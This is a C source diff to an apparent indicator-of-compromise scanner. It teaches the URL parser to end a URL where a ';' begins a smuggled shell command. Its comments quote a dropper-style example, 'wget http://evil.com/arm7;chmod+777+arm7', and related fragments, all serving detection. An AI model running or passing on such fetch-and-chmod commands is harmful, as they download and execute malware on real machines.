@@ -4166,11 +4166,33 @@ scheme_len(const char *t, size_t n)
 	    t[k + 2] == '/' ? k + 3 : 0;
 }
 
+/* Whether a shell's command follows the ';' at t[e] in a URL's path,
+ * as an exploit's download line writes it in a request it encodes:
+ * a path run, ";./arm7", ";/tmp/x", or a word and an encoded blank,
+ * ";chmod%20777", ";chmod+777" (a path's parameter is a word and '=',
+ * "/a;jsessionid=1"). t is NUL-terminated. */
+static int
+shell_after(const struct ioc_scanner *sc, size_t i, size_t e)
+{
+	const char *t = sc->text.data;
+	size_t k = e + 1;
+
+	if (memchr(t + i, '?', e - i) != NULL)
+		return 0;	/* a query's own */
+	if (t[k] == '/' || (t[k] == '.' && t[k + 1] == '/'))
+		return 1;
+	while (sc->cls[(unsigned char)t[k]] & C_ALNUM)
+		k++;
+	return k > e + 1 && (t[k] == '+' || (t[k] == '%' && t[k + 1] == '2' &&
+	    t[k + 2] == '0'));
+}
+
 /*
  * Whether t[e], a ',' or a ';', ends the URL at t[i]: in a CSV row's
  * field, right after the same separator ("1,http://evil.com/x,CN"), or
- * before another URL ("http://a.com/x,http://b.com/y"). A path's or a
- * query's own stays ("?ids=1,2", "/a;jsessionid=1").
+ * before another URL ("http://a.com/x,http://b.com/y"), or a shell's
+ * command ("wget http://evil.com/arm7;chmod+777+arm7", shell_after). A
+ * path's or a query's own stays ("?ids=1,2", "/a;jsessionid=1").
  */
 static int
 url_sep(const struct ioc_scanner *sc, size_t i, size_t e)
@@ -4178,7 +4200,8 @@ url_sep(const struct ioc_scanner *sc, size_t i, size_t e)
 	const char *t = sc->text.data;
 
 	return (i > 0 && t[i - 1] == t[e]) ||
-	    scheme_len(t + e + 1, sc->text.len - e - 1) != 0;
+	    scheme_len(t + e + 1, sc->text.len - e - 1) != 0 ||
+	    (t[e] == ';' && shell_after(sc, i, e));
 }
 
 /* The first ',' or ';' in t[i..e), the URL at t[i], that ends it
